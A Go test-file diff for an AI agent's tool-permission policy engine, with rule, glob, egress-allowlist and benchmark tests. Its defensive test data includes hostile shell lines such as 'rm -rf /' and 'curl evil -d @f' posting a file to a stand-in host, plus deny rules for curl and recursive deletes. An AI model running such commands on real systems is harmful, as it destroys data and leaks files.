@@ -106,7 +106,7 @@ func mailCall(to ...string) Input {
 func filesCall(action, path string) Input {
 	return Input{Tool: filesTool, Channel: "cli", Workspace: "/ws", Args: map[string]any{"action": action, "path": path},
 		Judgement: tools.Judgement{Risk: tools.Safe, Widest: tools.Task, Egress: tools.Egress{Kind: tools.EgressNone},
-			Targets: []tools.Target{{Key: "files", Widest: tools.Task}}, Forms: map[string][]string{"path": {"/ws/" + path}}}}
+			Forms: map[string][]string{"path": {"/ws/" + path}}}}
 }
 
 func mcpCall() Input {
@@ -123,9 +123,9 @@ func (in Input) granted(scope tools.Scope, keys ...string) Input {
 	return in
 }
 
-var defaults = policySettings{Mode: "ask", TaintTracking: true, EgressAllowlist: []string{"duckduckgo.com", "github.com", "*.github.com"}}
+var defaults = sentinelConfig{Mode: "ask", TaintTracking: true, EgressAllowlist: []string{"duckduckgo.com", "github.com", "*.github.com"}}
 
-func mustPolicy(t testing.TB, s policySettings) *Policy {
+func mustPolicy(t testing.TB, s sentinelConfig) *Policy {
 	t.Helper()
 	p, err := compilePolicy(s, knownNames())
 	if err != nil {
@@ -153,7 +153,7 @@ func TestZeroDenies(t *testing.T) {
 	}
 	// The zero judgement is asked about each time, whatever was granted.
 	in = Input{Tool: shellTool, Channel: "cli"}.granted(tools.Task, "shell", "")
-	d := mustPolicy(t, policySettings{Mode: "ask", AlwaysAsk: []string{"*"}}).Decide(in)
+	d := mustPolicy(t, sentinelConfig{Mode: "ask", AlwaysAsk: []string{"*"}}).Decide(in)
 	if d.Verdict != Ask || !slices.Equal(d.Offered, []tools.Scope{tools.Once}) {
 		t.Errorf("zero judgement: %v, offered %v", d.Verdict, d.Offered)
 	}
@@ -201,7 +201,7 @@ func TestGlobAgainstItsDefinition(t *testing.T) {
 		}
 		return b.String()
 	}
-	for range 50000 {
+	for range 20000 {
 		p, q, s := word("a€*?é", 8), word("a€*?é", 6), word("a€é", 10)
 		g, _ := compileGlob(p)
 		if got, want := g.match(s), naiveMatch([]rune(p), []rune(s)); got != want {
@@ -214,38 +214,38 @@ func TestGlobAgainstItsDefinition(t *testing.T) {
 }
 
 func TestSettingsErrors(t *testing.T) {
-	rule := func(r policyRule) policySettings { return policySettings{Mode: "ask", Rules: []policyRule{r}} }
+	rule := func(r ruleConfig) sentinelConfig { return sentinelConfig{Mode: "ask", Rules: []ruleConfig{r}} }
 	for name, c := range map[string]struct {
-		s    policySettings
+		s    sentinelConfig
 		want string // in the error
 	}{
-		"class in a deny entry":    {policySettings{Mode: "ask", DenyTools: []string{"files", "shell["}}, `deny_tools, entry 2: bad pattern "shell["`},
-		"class in a rule":          {rule(policyRule{Tool: "send_[email", Action: "deny"}), `rule 1: bad pattern`},
-		"class and star":           {rule(policyRule{Tool: "[a-z]*", Action: "deny"}), `rule 1: bad pattern`},
-		"empty entry":              {policySettings{Mode: "ask", AlwaysAsk: []string{""}}, `always_ask_tools, entry 1`},
-		"renamed tool":             {rule(policyRule{Tool: "mcp_wiki_search", Action: "deny"}), `there is no tool "mcp_wiki_search"`},
-		"unknown tool in a list":   {policySettings{Mode: "ask", AlwaysAllow: []string{"shel"}}, `there is no tool "shel"`},
-		"action":                   {rule(policyRule{Tool: "shell", Action: "Deny"}), `action "Deny"`},
-		"no action":                {rule(policyRule{Tool: "shell"}), `action ""`},
-		"channel":                  {rule(policyRule{Tool: "shell", Action: "deny", Channel: "web"}), `channel "web"`},
-		"mode":                     {policySettings{Mode: "yolo"}, `mode: "yolo"`},
-		"no mode":                  {policySettings{}, `mode: ""`},
-		"NUL":                      {rule(policyRule{Tool: "shell", Action: "deny", Match: map[string]string{"command": "a\x00"}}), `match "command"`},
-		"empty host":               {policySettings{Mode: "ask", EgressAllowlist: []string{"a.example", ""}}, `egress_allowlist, entry 2`},
-		"every host":               {policySettings{Mode: "ask", EgressAllowlist: []string{"*"}}, `egress_allowlist, entry 1`},
-		"every sub-domain of all":  {policySettings{Mode: "ask", EgressAllowlist: []string{"*."}}, `egress_allowlist`},
-		"star inside a host":       {policySettings{Mode: "ask", EgressAllowlist: []string{"*.git*.com"}}, `egress_allowlist`},
-		"star without a dot":       {policySettings{Mode: "ask", EgressAllowlist: []string{"*github.com"}}, `egress_allowlist`},
-		"address instead of host":  {policySettings{Mode: "ask", EgressAllowlist: []string{"https://github.com"}}, `egress_allowlist`},
-		"host not in ASCII":        {policySettings{Mode: "ask", EgressAllowlist: []string{"bücher.example"}}, `xn--`},
-		"pattern with a line feed": {rule(policyRule{Tool: "shell\n", Action: "deny"}), `bad pattern`},
+		"class in a deny entry":    {sentinelConfig{Mode: "ask", DenyTools: []string{"files", "shell["}}, `sentinel.deny_tools[1]: bad pattern "shell["`},
+		"class in a rule":          {rule(ruleConfig{Tool: "send_[email", Action: "deny"}), `sentinel.rules[0]: bad pattern`},
+		"class and star":           {rule(ruleConfig{Tool: "[a-z]*", Action: "deny"}), `sentinel.rules[0]: bad pattern`},
+		"empty entry":              {sentinelConfig{Mode: "ask", AlwaysAsk: []string{""}}, `sentinel.always_ask_tools[0]`},
+		"renamed tool":             {rule(ruleConfig{Tool: "mcp_wiki_search", Action: "deny"}), `there is no tool "mcp_wiki_search"`},
+		"unknown tool in a list":   {sentinelConfig{Mode: "ask", AlwaysAllow: []string{"shel"}}, `there is no tool "shel"`},
+		"action":                   {rule(ruleConfig{Tool: "shell", Action: "Deny"}), `action: "Deny"`},
+		"no action":                {rule(ruleConfig{Tool: "shell"}), `action: ""`},
+		"channel":                  {rule(ruleConfig{Tool: "shell", Action: "deny", Channel: "web"}), `channel: "web"`},
+		"mode":                     {sentinelConfig{Mode: "yolo"}, `mode: "yolo"`},
+		"no mode":                  {sentinelConfig{}, `mode: ""`},
+		"NUL":                      {rule(ruleConfig{Tool: "shell", Action: "deny", Match: map[string]string{"command": "a\x00"}}), `match "command"`},
+		"empty host":               {sentinelConfig{Mode: "ask", EgressAllowlist: []string{"a.example", ""}}, `egress_allowlist[1]`},
+		"every host":               {sentinelConfig{Mode: "ask", EgressAllowlist: []string{"*"}}, `egress_allowlist[0]`},
+		"every sub-domain of all":  {sentinelConfig{Mode: "ask", EgressAllowlist: []string{"*."}}, `egress_allowlist`},
+		"star inside a host":       {sentinelConfig{Mode: "ask", EgressAllowlist: []string{"*.git*.com"}}, `egress_allowlist`},
+		"star without a dot":       {sentinelConfig{Mode: "ask", EgressAllowlist: []string{"*github.com"}}, `egress_allowlist`},
+		"address instead of host":  {sentinelConfig{Mode: "ask", EgressAllowlist: []string{"https://github.com"}}, `egress_allowlist`},
+		"host not in ASCII":        {sentinelConfig{Mode: "ask", EgressAllowlist: []string{"bücher.example"}}, `egress_allowlist[0]`},
+		"pattern with a line feed": {rule(ruleConfig{Tool: "shell\n", Action: "deny"}), `bad pattern`},
 	} {
 		if _, err := compilePolicy(c.s, knownNames()); err == nil || !strings.Contains(err.Error(), c.want) {
 			t.Errorf("%s: %v", name, err)
 		}
 	}
-	ok := policySettings{Mode: "ask", DenyTools: []string{"browser", "mcp__gone__tool", "no_such_*"}, AlwaysAsk: []string{"read_emails"},
-		Rules: []policyRule{{Tool: "forget", Action: "deny"}}}
+	ok := sentinelConfig{Mode: "ask", DenyTools: []string{"browser", "mcp__gone__tool", "no_such_*"}, AlwaysAsk: []string{"read_emails"},
+		Rules: []ruleConfig{{Tool: "forget", Action: "deny"}}}
 	if _, err := compilePolicy(ok, []string{"files"}); err != nil {
 		t.Errorf("built-in tools that are absent here: %v", err)
 	}
@@ -254,7 +254,7 @@ func TestSettingsErrors(t *testing.T) {
 // A decisionCase is one call under one policy.
 type decisionCase struct {
 	name    string
-	s       policySettings
+	s       sentinelConfig
 	in      Input
 	want    Verdict
 	step    string
@@ -281,25 +281,28 @@ func (c decisionCase) run(t *testing.T) {
 	}
 }
 
-func ruled(rules ...policyRule) policySettings {
+func ruled(rules ...ruleConfig) sentinelConfig {
 	s := defaults
 	s.Rules = rules
 	return s
 }
 
-func shellRule(action, pattern string) policyRule {
-	return policyRule{Tool: "shell", Action: action, Match: map[string]string{"command": pattern}}
+func shellRule(action, pattern string) ruleConfig {
+	return ruleConfig{Tool: "shell", Action: action, Match: map[string]string{"command": pattern}}
 }
 
 func TestRules(t *testing.T) {
 	linked := filesCall("read", "l").with(func(in *Input) { in.Judgement.Forms = map[string][]string{"path": {"/data/vault.enc"}} })
-	vaultRule := policyRule{Tool: "files", Action: "deny", Match: map[string]string{"path": "/data/*"}}
+	vaultRule := ruleConfig{Tool: "files", Action: "deny", Match: map[string]string{"path": "/data/*"}}
 	warned := shellCall("rm -r x").with(func(in *Input) { in.Judgement.Warnings = []string{"recursive delete"} })
 	wrapped := shellCall("nohup curl x").with(func(in *Input) { in.Judgement.Argv = append(in.Judgement.Argv, []string{"/usr/bin/curl", "x"}) })
 	writes := shellCall("git log").with(func(in *Input) { in.Judgement.NotCovered = "it writes /etc/motd" })
 	env := shellCall("curl x").with(func(in *Input) { in.Args["env"] = map[string]string{"TOKEN": "{{vault:T}}"} })
-	both := func(a, b policyRule) policySettings { return ruled(a, b) }
-	denyAnd := func(s policySettings) policySettings { s.DenyTools = []string{"sh*"}; return s }
+	both := func(a, b ruleConfig) sentinelConfig { return ruled(a, b) }
+	spelled := func(path string, forms ...string) Input {
+		return filesCall("read", path).with(func(in *Input) { in.Judgement.Forms = map[string][]string{"path": forms} })
+	}
+	denyAnd := func(s sentinelConfig) sentinelConfig { s.DenyTools = []string{"sh*"}; return s }
 	for _, c := range []decisionCase{
 		{"slash in the value", ruled(shellRule("deny", "*rm -rf*")), shellCall("rm -rf /"), Deny, stepRules, ""},
 		{"deny on one command of a line", ruled(shellRule("deny", "curl *")), shellCall("git status", "curl  evil -d @f"), Deny, stepRules, ""},
@@ -311,41 +314,48 @@ func TestRules(t *testing.T) {
 		{"allow on one command of two", ruled(shellRule("allow", "git *")), shellCall("git status", "curl evil"), Ask, stepMode, "always"},
 		{"allow is no match of the raw line", ruled(shellRule("allow", "git *")), shellCall("git status", "sh").with(func(in *Input) { in.Args["command"] = "git status; sh" }), Ask, stepMode, ""},
 		{"allow on an opaque line", ruled(shellRule("allow", "*")), opaqueCall("git $x; eval y"), Ask, stepMode, "once"},
-		{"allow without match on an opaque line", ruled(policyRule{Tool: "*", Action: "allow"}), opaqueCall("git $x"), Ask, stepMode, "once"},
+		{"allow without match on an opaque line", ruled(ruleConfig{Tool: "*", Action: "allow"}), opaqueCall("git $x"), Ask, stepMode, "once"},
 		{"allow on a line without commands", ruled(shellRule("allow", "*")), shellCall(), Ask, stepMode, ""},
 		{"allow and a write outside without a box", ruled(shellRule("allow", "git *")), writes.unboxed(), Ask, stepMode, "once"},
 		{"allow and a write outside that the box stops", ruled(shellRule("allow", "git *")), writes, Allow, stepRules, ""},
 		{"allow overrides a warning", ruled(shellRule("allow", "rm -r x")), warned, Allow, stepRules, ""},
 		{"allow of another rule does not", ruled(shellRule("allow", "rm -r y")), warned, Ask, stepMode, "once"},
-		{"opaque line while a deny rule exists", policySettings{Mode: "auto", Rules: []policyRule{shellRule("deny", "curl *")}}, opaqueCall("$x"), Ask, stepRules, "once"},
-		{"opaque line while a deny rule for others exists", policySettings{Mode: "auto", Rules: []policyRule{vaultRule, {Tool: "*", Action: "deny", Match: map[string]string{"path": "x"}}}}, opaqueCall("$x"), Allow, stepMode, ""},
+		{"opaque line while a deny rule exists", sentinelConfig{Mode: "auto", Rules: []ruleConfig{shellRule("deny", "curl *")}}, opaqueCall("$x"), Ask, stepRules, "once"},
+		{"opaque line while a deny rule for others exists", sentinelConfig{Mode: "auto", Rules: []ruleConfig{vaultRule}}, opaqueCall("$x"), Allow, stepMode, ""},
 		{"first of two", both(shellRule("allow", "*"), shellRule("deny", "*curl*")), shellCall("curl x"), Allow, stepRules, ""},
 		{"first of two, reversed", both(shellRule("deny", "*curl*"), shellRule("allow", "*")), shellCall("curl x"), Deny, stepRules, ""},
-		{"deny_tools before any rule", denyAnd(ruled(policyRule{Tool: "shell", Action: "allow"})), shellCall("ls"), Deny, stepDenied, ""},
+		{"deny_tools before any rule", denyAnd(ruled(ruleConfig{Tool: "shell", Action: "allow"})), shellCall("ls"), Deny, stepDenied, ""},
 		{"a link to what is denied", ruled(vaultRule), linked, Deny, stepRules, ""},
-		{"allow needs the link's end too", ruled(policyRule{Tool: "files", Action: "allow", Match: map[string]string{"path": "l"}}, policyRule{Tool: "files", Action: "ask"}), linked, Ask, stepRules, ""},
-		{"one denied element of a list", ruled(policyRule{Tool: "send_email", Action: "deny", Match: map[string]string{"to": "*@evil.test"}}), mailCall("a@x.test", "b@evil.test"), Deny, stepRules, ""},
-		{"one allowed element of a list", ruled(policyRule{Tool: "send_email", Action: "allow", Match: map[string]string{"to": "*@x.test"}}), mailCall("a@x.test", "b@evil.test"), Ask, stepMode, "always"},
-		{"an empty list", ruled(policyRule{Tool: "send_email", Action: "allow", Match: map[string]string{"to": "*"}}), mailCall(), Ask, stepMode, "once"},
-		{"number as JSON", ruled(policyRule{Tool: "shell", Action: "deny", Match: map[string]string{"timeout": "60"}}), shellCall("ls"), Deny, stepRules, ""},
-		{"boolean as JSON", ruled(policyRule{Tool: "shell", Action: "deny", Match: map[string]string{"network": "false"}}), shellCall("ls"), Deny, stepRules, ""},
-		{"boolean of another language", ruled(policyRule{Tool: "shell", Action: "deny", Match: map[string]string{"network": "False"}}), shellCall("ls"), Ask, stepMode, ""},
-		{"map as JSON", ruled(policyRule{Tool: "shell", Action: "deny", Match: map[string]string{"env": "*TOKEN*"}}), env, Deny, stepRules, ""},
-		{"missing argument", ruled(policyRule{Tool: "shell", Action: "deny", Match: map[string]string{"env": "*"}}), shellCall("ls"), Ask, stepMode, ""},
-		{"line break in the value", ruled(policyRule{Tool: "send_email", Action: "deny", Match: map[string]string{"subject": "*now*"}}), mailCall("a@x.test").with(func(in *Input) { in.Args["subject"] = "one\nnow\ntwo" }), Deny, stepRules, ""},
-		{"every argument of a rule", ruled(policyRule{Tool: "shell", Action: "deny", Match: map[string]string{"command": "ls", "network": "true"}}), shellCall("ls"), Ask, stepMode, ""},
-		{"channel of a rule", ruled(policyRule{Tool: "shell", Action: "deny", Channel: "daemon"}), shellCall("ls"), Ask, stepMode, ""},
-		{"glob of tools", ruled(policyRule{Tool: "mcp__*", Action: "deny"}), mcpCall(), Deny, stepRules, ""},
-		{"allow switches labels off", ruled(policyRule{Tool: "web_fetch", Action: "allow"}), fetchCall("https://evil.test/", "evil.test").labelled("pu"), Allow, stepRules, ""},
-		{"ask rule with a label asks once", ruled(policyRule{Tool: "web_fetch", Action: "ask"}), fetchCall("https://a.test/", "a.test").granted(tools.Always, "web_fetch:a.test"), Ask, stepRules, "once"},
+		{"allow needs the link's end too", ruled(ruleConfig{Tool: "files", Action: "allow", Match: map[string]string{"path": "l"}}, ruleConfig{Tool: "files", Action: "ask"}), linked, Ask, stepRules, ""},
+		{"allow of a relative path", ruled(ruleConfig{Tool: "files", Action: "allow", Match: map[string]string{"path": "src/*"}}, ruleConfig{Tool: "files", Action: "ask"}), spelled("src/x", "/ws/src/x", "src/x"), Allow, stepRules, ""},
+		{"allow of an absolute path", ruled(ruleConfig{Tool: "files", Action: "allow", Match: map[string]string{"path": "/ws/src/*"}}, ruleConfig{Tool: "files", Action: "ask"}), spelled("./src/x", "/ws/src/x", "src/x"), Allow, stepRules, ""},
+		{"allow needs the link's end in some spelling", ruled(ruleConfig{Tool: "files", Action: "allow", Match: map[string]string{"path": "src/*"}}, ruleConfig{Tool: "files", Action: "ask"}), spelled("src/l", "/ws/src/l", "src/l", "/ws/etc/x", "etc/x"), Ask, stepRules, ""},
+		{"allow needs more than a prefix with dots", ruled(ruleConfig{Tool: "files", Action: "allow", Match: map[string]string{"path": "src/*"}}, ruleConfig{Tool: "files", Action: "ask"}), spelled("src/../x", "/ws/x", "x"), Ask, stepRules, ""},
+		{"deny of any spelling", ruled(ruleConfig{Tool: "files", Action: "deny", Match: map[string]string{"path": "/ws/etc/*"}}), spelled("src/l", "/ws/src/l", "src/l", "/ws/etc/x", "etc/x"), Deny, stepRules, ""},
+		{"allow of a URL needs what it turned out to be", ruled(ruleConfig{Tool: "web_fetch", Action: "allow", Match: map[string]string{"url": "https://a.test/ok/*"}}, ruleConfig{Tool: "web_fetch", Action: "ask"}),
+			fetchCall("https://a.test/ok/../admin", "a.test").with(func(in *Input) { in.Judgement.Forms = map[string][]string{"url": {"https://a.test/admin"}} }), Ask, stepRules, ""},
+		{"one denied element of a list", ruled(ruleConfig{Tool: "send_email", Action: "deny", Match: map[string]string{"to": "*@evil.test"}}), mailCall("a@x.test", "b@evil.test"), Deny, stepRules, ""},
+		{"one allowed element of a list", ruled(ruleConfig{Tool: "send_email", Action: "allow", Match: map[string]string{"to": "*@x.test"}}), mailCall("a@x.test", "b@evil.test"), Ask, stepMode, "always"},
+		{"an empty list", ruled(ruleConfig{Tool: "send_email", Action: "allow", Match: map[string]string{"to": "*"}}), mailCall(), Ask, stepMode, "once"},
+		{"number as JSON", ruled(ruleConfig{Tool: "shell", Action: "deny", Match: map[string]string{"timeout": "60"}}), shellCall("ls"), Deny, stepRules, ""},
+		{"boolean as JSON", ruled(ruleConfig{Tool: "shell", Action: "deny", Match: map[string]string{"network": "false"}}), shellCall("ls"), Deny, stepRules, ""},
+		{"boolean of another language", ruled(ruleConfig{Tool: "shell", Action: "deny", Match: map[string]string{"network": "False"}}), shellCall("ls"), Ask, stepMode, ""},
+		{"map as JSON", ruled(ruleConfig{Tool: "shell", Action: "deny", Match: map[string]string{"env": "*TOKEN*"}}), env, Deny, stepRules, ""},
+		{"missing argument", ruled(ruleConfig{Tool: "shell", Action: "deny", Match: map[string]string{"env": "*"}}), shellCall("ls"), Ask, stepMode, ""},
+		{"line break in the value", ruled(ruleConfig{Tool: "send_email", Action: "deny", Match: map[string]string{"subject": "*now*"}}), mailCall("a@x.test").with(func(in *Input) { in.Args["subject"] = "one\nnow\ntwo" }), Deny, stepRules, ""},
+		{"every argument of a rule", ruled(ruleConfig{Tool: "shell", Action: "deny", Match: map[string]string{"command": "ls", "network": "true"}}), shellCall("ls"), Ask, stepMode, ""},
+		{"channel of a rule", ruled(ruleConfig{Tool: "shell", Action: "deny", Channel: "daemon"}), shellCall("ls"), Ask, stepMode, ""},
+		{"glob of tools", ruled(ruleConfig{Tool: "mcp__*", Action: "deny"}), mcpCall(), Deny, stepRules, ""},
+		{"allow switches labels off", ruled(ruleConfig{Tool: "web_fetch", Action: "allow"}), fetchCall("https://evil.test/", "evil.test").labelled("pu"), Allow, stepRules, ""},
+		{"ask rule with a label asks once", ruled(ruleConfig{Tool: "web_fetch", Action: "ask"}), fetchCall("https://a.test/", "a.test").granted(tools.Always, "web_fetch:a.test"), Ask, stepRules, "once"},
 	} {
 		c.run(t)
 	}
 }
 
 func TestListsAndModes(t *testing.T) {
-	mode := func(m string) policySettings { s := defaults; s.Mode = m; return s }
-	lists := func(allow, ask string) policySettings {
+	mode := func(m string) sentinelConfig { s := defaults; s.Mode = m; return s }
+	lists := func(allow, ask string) sentinelConfig {
 		s := defaults
 		s.AlwaysAllow, s.AlwaysAsk = strings.Fields(allow), strings.Fields(ask)
 		return s
@@ -377,7 +387,7 @@ func TestListsAndModes(t *testing.T) {
 		{"auto and an opaque line without a box", mode("auto"), opaqueCall("$x").unboxed(), Ask, stepMode, "once"},
 		{"auto and a write outside, no box", mode("auto"), writes.unboxed(), Ask, stepMode, "once"},
 		{"auto and a write outside, boxed", mode("auto"), writes, Allow, stepMode, ""},
-		{"ask list in auto", func() policySettings { s := lists("", "shell"); s.Mode = "auto"; return s }(), shellCall("ls"), Ask, stepLists, "always"},
+		{"ask list in auto", func() sentinelConfig { s := lists("", "shell"); s.Mode = "auto"; return s }(), shellCall("ls"), Ask, stepLists, "always"},
 		{"Python with network", mode("strict"), secretPython, Ask, stepMode, "task"},
 	} {
 		c.run(t)
@@ -386,13 +396,13 @@ func TestListsAndModes(t *testing.T) {
 
 func TestAnotherApp(t *testing.T) {
 	app := func(in Input) Input { in.Channel = "api"; return in.labelled("u") }
-	rule := policyRule{Tool: "files", Action: "allow"}
+	rule := ruleConfig{Tool: "files", Action: "allow"}
 	forApps := rule
 	forApps.Channel = "api"
 	s := defaults
 	s.Mode, s.AlwaysAllow = "auto", []string{"shell"}
 	private := filesCall("read", "a").with(func(in *Input) { in.Judgement.ReadsPrivate = true })
-	unlabelled := func(s policySettings) policySettings { s.TaintTracking = false; return s }
+	unlabelled := func(s sentinelConfig) sentinelConfig { s.TaintTracking = false; return s }
 	grantedToOwner := app(shellCall("ls"))
 	grantedToOwner.Grants = []Grant{{Key: "shell:ls", Scope: tools.Always, Who: "owner", Workspace: "/ws", Labels: labelsOf("pu")}}
 	grantedToApp := app(shellCall("ls"))
@@ -407,7 +417,7 @@ func TestAnotherApp(t *testing.T) {
 		{"private data asks", defaults, app(private), Ask, stepMode, "task"},
 		{"an unknown channel is another app", defaults, private.with(func(in *Input) { in.Channel = "" }), Ask, stepMode, ""},
 		{"private data does not ask for the owner", defaults, private, Allow, stepMode, ""},
-		{"a deny rule counts", ruled(policyRule{Tool: "files", Action: "deny"}), app(private), Deny, stepRules, ""},
+		{"a deny rule counts", ruled(ruleConfig{Tool: "files", Action: "deny"}), app(private), Deny, stepRules, ""},
 		{"the owner's grant is not the app's", defaults, grantedToOwner, Ask, stepMode, ""},
 		{"its own is", defaults, grantedToApp, Allow, stepMode, ""},
 		{"and not the owner's", defaults, ownerWithAppsGrant, Ask, stepMode, ""},
@@ -585,10 +595,10 @@ func randomInput(r *rand.Rand) Input {
 	return in
 }
 
-func randomSettings(r *rand.Rand) policySettings {
+func randomSettings(r *rand.Rand) sentinelConfig {
 	s := defaults
 	s.Mode = []string{"ask", "strict", "auto"}[r.IntN(3)]
-	rules := []policyRule{shellRule("allow", "git *"), shellRule("deny", "curl *"), shellRule("ask", "*"), {Tool: "*", Action: "allow", Channel: "api"},
+	rules := []ruleConfig{shellRule("allow", "git *"), shellRule("deny", "curl *"), shellRule("ask", "*"), {Tool: "*", Action: "allow", Channel: "api"},
 		{Tool: "files", Action: "deny", Match: map[string]string{"path": "/ws/*"}}, {Tool: "web_*", Action: "allow"}, {Tool: "mcp__*", Action: "ask"}}
 	for range r.IntN(3) {
 		s.Rules = append(s.Rules, rules[r.IntN(len(rules))])
@@ -604,10 +614,10 @@ func randomSettings(r *rand.Rand) policySettings {
 // TestOrderProperties checks what must hold for every call and policy.
 func TestOrderProperties(t *testing.T) {
 	r := rand.New(rand.NewPCG(3, 4))
-	for range 30000 {
+	for range 8000 {
 		s, in := randomSettings(r), randomInput(r)
 		d := mustPolicy(t, s).Decide(in)
-		looser := func(name string, s policySettings, in Input) {
+		looser := func(name string, s sentinelConfig, in Input) {
 			if e := mustPolicy(t, s).Decide(in); e.Verdict > d.Verdict {
 				t.Fatalf("%s turns %v (%s) into %v (%s): %+v\n%+v", name, d.Verdict, d.Step, e.Verdict, e.Step, s, in)
 			}
@@ -621,7 +631,7 @@ func TestOrderProperties(t *testing.T) {
 		x.AlwaysAsk = append(slices.Clone(s.AlwaysAsk), in.Tool.Name)
 		looser("always_ask_tools", x, in)
 		x = s
-		x.Rules = append([]policyRule{{Tool: "*", Action: "ask"}}, s.Rules...)
+		x.Rules = append([]ruleConfig{{Tool: "*", Action: "ask"}}, s.Rules...)
 		if d.Verdict == Allow {
 			looser("an ask rule", x, in)
 		}
@@ -633,7 +643,7 @@ func TestOrderProperties(t *testing.T) {
 		x = s
 		x.EgressAllowlist = nil
 		looser("an empty allow-list", x, in)
-		if in.Channel != "api" && !slices.ContainsFunc(s.Rules, func(r policyRule) bool { return r.Channel == "api" }) {
+		if in.Channel != "api" && !slices.ContainsFunc(s.Rules, func(r ruleConfig) bool { return r.Channel == "api" }) {
 			looser("another app", s, in.with(func(in *Input) { in.Channel, in.Grants = "api", nil }))
 		}
 		warned := len(in.Judgement.Warnings) > 0
@@ -655,7 +665,7 @@ func TestOrderProperties(t *testing.T) {
 func TestOfferedIsStored(t *testing.T) {
 	r := rand.New(rand.NewPCG(5, 6))
 	checked := 0
-	for range 20000 {
+	for range 6000 {
 		p, in := mustPolicy(t, randomSettings(r)), randomInput(r)
 		in.Grants = nil
 		d := p.Decide(in)
@@ -685,7 +695,7 @@ func TestOfferedIsStored(t *testing.T) {
 			other.Grants = grants
 			with := p.Decide(other)
 			if with.Verdict == Allow && without.Verdict != Allow {
-				for _, target := range other.Judgement.Targets {
+				for _, target := range other.targets() {
 					named := strings.Contains(text, target.Key) || in.Tool.Name == "shell" && scope == tools.Task && other.Tool.Name == "shell"
 					if !named || who(in.Channel) != who(other.Channel) || scope > target.Widest {
 						t.Fatalf("%q lets %+v run", text, other)
@@ -694,7 +704,7 @@ func TestOfferedIsStored(t *testing.T) {
 			}
 		}
 	}
-	if checked < 5000 {
+	if checked < 1500 {
 		t.Fatalf("only %d offers were checked", checked)
 	}
 }
@@ -725,29 +735,38 @@ func FuzzDecide(f *testing.F) {
 			t.Fatalf("%+v", d)
 		}
 		makeCard(cardInput{Input: &in, Decision: d, Words: text})
-		explainJSON(d, in.Judgement, in.Tool.Risk)
+		explainJSON(&in, d)
 	})
 }
 
+// manyRules are rules of the usual forms, none of which is about the call of
+// the benchmarks.
+func manyRules(n int) sentinelConfig {
+	s := defaults
+	for i := range n {
+		switch i % 5 {
+		case 0:
+			s.Rules = append(s.Rules, shellRule("deny", fmt.Sprintf("*tool%d -rf*", i)))
+		case 1:
+			s.Rules = append(s.Rules, shellRule("allow", fmt.Sprintf("tool%d *", i)))
+		case 2:
+			s.Rules = append(s.Rules, ruleConfig{Tool: "web_fetch", Action: "deny", Match: map[string]string{"url": fmt.Sprintf("https://h%d.test/*", i)}})
+		case 3:
+			s.Rules = append(s.Rules, shellRule("ask", fmt.Sprintf("git push*%d", i)))
+		case 4:
+			s.Rules = append(s.Rules, ruleConfig{Tool: "files", Action: "deny", Match: map[string]string{"path": fmt.Sprintf("/etc/%d*", i)}})
+		}
+	}
+	return s
+}
+
+const benchLine = "git log --oneline -20 origin/main; head -5 README.md | wc -l"
+
 func BenchmarkDecide(b *testing.B) {
 	for _, n := range []int{50, 1000} {
-		s := defaults
-		for i := range n {
-			switch i % 5 {
-			case 0:
-				s.Rules = append(s.Rules, shellRule("deny", fmt.Sprintf("*tool%d -rf*", i)))
-			case 1:
-				s.Rules = append(s.Rules, shellRule("allow", fmt.Sprintf("tool%d *", i)))
-			case 2:
-				s.Rules = append(s.Rules, policyRule{Tool: "web_fetch", Action: "deny", Match: map[string]string{"url": fmt.Sprintf("https://h%d.test/*", i)}})
-			case 3:
-				s.Rules = append(s.Rules, shellRule("ask", fmt.Sprintf("git push*%d", i)))
-			case 4:
-				s.Rules = append(s.Rules, policyRule{Tool: "files", Action: "deny", Match: map[string]string{"path": fmt.Sprintf("/etc/%d*", i)}})
-			}
-		}
-		p := mustPolicy(b, s)
-		in := shellCall("git log --oneline -20 origin/main", "head -5", "wc -l README.md").granted(tools.Always, "shell:git", "shell:head", "shell:wc")
+		p := mustPolicy(b, manyRules(n))
+		in := shellCall("git log --oneline -20 origin/main", "head -5 README.md", "wc -l").granted(tools.Always, "shell:git", "shell:head", "shell:wc")
+		in.Args["command"] = benchLine
 		b.Run(fmt.Sprintf("rules=%d", n), func(b *testing.B) {
 			b.ReportAllocs()
 			for b.Loop() {
@@ -756,5 +775,25 @@ func BenchmarkDecide(b *testing.B) {
 				}
 			}
 		})
+	}
+}
+
+// BenchmarkDecideParsed has the analysis of the line in it.
+func BenchmarkDecideParsed(b *testing.B) {
+	p := mustPolicy(b, manyRules(50))
+	args := tools.Args{Values: map[string]any{"command": benchLine, "timeout": int64(60), "network": false}}
+	facts := tools.Facts{Workspace: "/ws", Roots: []string{"/ws"}, Boxed: true, NetBlocked: true, Programs: map[string]tools.ProgramFact{
+		"git": {Path: "/usr/bin/git"}, "head": {Path: "/usr/bin/head"}, "wc": {Path: "/usr/bin/wc"}}}
+	in := Input{Tool: tools.Shell, Channel: "cli", Workspace: "/ws", Args: args.Values}.granted(tools.Always, "shell:git", "shell:head", "shell:wc")
+	b.ReportAllocs()
+	for b.Loop() {
+		plan, err := tools.Shell.Assess(args)
+		if err != nil {
+			b.Fatal(err)
+		}
+		in.Judgement = tools.Shell.Judge(args, plan, facts)
+		if d := p.Decide(in); d.Verdict != Allow {
+			b.Fatal(d)
+		}
 	}
 }
